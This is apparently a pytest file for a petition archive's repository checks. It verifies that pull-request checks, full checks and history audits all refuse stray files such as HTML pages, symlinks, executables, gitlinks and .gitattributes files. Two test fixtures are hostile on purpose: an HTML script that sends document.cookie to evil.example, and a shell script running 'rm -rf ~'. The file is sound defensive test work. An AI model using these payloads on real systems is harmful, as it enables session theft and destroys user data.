"""What may be in the archive: only plain record files in petition folders.

Each stray kind is added by a department's pull request to a real
repository. The pull-request check must refuse it, naming the file, the rule
and what to do instead; the full check of the head and the audit of the
history (once it is merged anyway) must report the same refusal: one
definition (generator.archivepaths), three users.
"""

from __future__ import annotations

import json
import subprocess
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.audit import audit_history
from generator.cli import main
from tests.conftest import git
from tests.records_util import FOLDER, event
from tests.test_governance import NOW, merged_case

REPLY_NAME = "20261120T013000Z-reply.yaml"  # 2026-11-20T09:30:00+08:00
REPLY = event("reply", "2026-11-20T09:30:00+08:00", "housing", final="false", body="补充说明。").encode()
SCRIPT = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"
UTF16 = b"*.yaml text working-tree-encoding=UTF-16\n"


def _blob(repo: Path, content: bytes) -> str:
    return subprocess.run(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], input=content,
                          capture_output=True, check=True).stdout.decode().strip()


# (what, path, git mode, content; None: a gitlink), rule
STRAYS = [
    ("html-page", "petitions/index.html", "100644", SCRIPT, "stray-file"),
    ("html-in-folder", f"{FOLDER}/index.html", "100644", SCRIPT, "stray-file"),
    ("50mb-binary", f"{FOLDER}/{REPLY_NAME}", "100644", b"\x00\xff\x10" * (50 * 1024 * 1024 // 3),
     "too-large"),
    ("gitattributes", "petitions/.gitattributes", "100644", UTF16, "attributes-file"),
    ("gitattributes-in-folder", f"{FOLDER}/.gitattributes", "100644", UTF16, "attributes-file"),
    ("executable", f"{FOLDER}/{REPLY_NAME}", "100755", REPLY, "executable"),
    ("executable-script", "petitions/2026/11/run.sh", "100755", b"#!/bin/sh\nrm -rf ~\n", "stray-file"),
    ("symlink", f"{FOLDER}/{REPLY_NAME}", "120000", b"../../../../departments.yaml", "symlink"),
    ("trailing-space-folder", "petitions/2026/11/2026-000009 /petition.yaml", "100644",
     b"id: '2026-000009'\n", "stray-file"),
    ("gitlink", f"{FOLDER}/{REPLY_NAME}", "160000", None, "gitlink"),
    ("non-petition-path", "petitions/2026/notes.yaml", "100644", b"note: hello\n", "stray-file"),
    ("sub-folder", f"{FOLDER}/drafts/{REPLY_NAME}", "100644", REPLY, "stray-file"),
]


@pytest.fixture
def pr_with(make_repo):
    def make(path: str, mode: str, content: bytes | None) -> Path:
        repo = make_repo(merged_case())
        git(repo, "checkout", "-q", "-b", "pr")
        # a gitlink's commit is another repository's: not in this one
        oid = _blob(repo, content) if content is not None else "5" * 40
        git(repo, "update-index", "--add", "--cacheinfo", f"{mode},{oid},{path}")
        git(repo, "-c", "user.name=mh-housing", "-c", "user.email=mh-housing@localhost",
            "commit", "-q", "-m", "reply 2026-000001")
        git(repo, "reset", "-q", "--hard")
        return repo
    return make


def _problems(args: list[str]) -> tuple[int, list[dict]]:
    result = CliRunner().invoke(main, [*args, "--format", "json", "--now", NOW])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.output)["problems"]


@pytest.mark.parametrize("what,path,mode,content,rule", STRAYS, ids=[s[0] for s in STRAYS])
def test_every_stray_kind_is_refused_alike_by_the_pr_check_the_full_check_and_the_audit(
        pr_with, what, path, mode, content, rule):
    repo = pr_with(path, mode, content)
    code, problems = _problems(["check", "--repo", str(repo), "--base", "main", "--author", "mh-housing"])
    assert code == 1, f"the pull-request check let {what} in: {problems}"
    mine = [p for p in problems if p["path"] == path and p["code"] == rule]
    assert len(mine) == 1, problems
    refusal = mine[0]
    assert refusal["severity"] == "error" and refusal["message"] and refusal["hint"]

    code, full = _problems(["check", "--repo", str(repo), "--rev", "pr"])
    assert code == 1 and refusal in full, full

    code, since = _problems(["check", "--repo", str(repo), "--rev", "pr", "--changed-since", "main"])
    assert code == 1 and refusal in since, since

    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--ff-only", "pr")
    report = audit_history(repo, "main", now=datetime.fromisoformat(NOW))
    found = [(v.path, v.code, v.message, v.hint) for v in report.violations]
    assert (path, rule, refusal["message"], refusal["hint"]) in found, found


def test_a_root_gitattributes_is_the_maintainers_to_change(make_repo):
    repo = make_repo(merged_case())
    git(repo, "checkout", "-q", "-b", "pr")
    (repo / ".gitattributes").write_bytes(b"petitions/** " + UTF16)
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=mh-housing", "-c", "user.email=mh-housing@localhost",
        "commit", "-q", "-m", "x")
    code, problems = _problems(["check", "--repo", str(repo), "--base", "main", "--author", "mh-housing"])
    assert code == 1
    assert [(p["path"], p["code"]) for p in problems] == [(".gitattributes", "maintainers-only")]
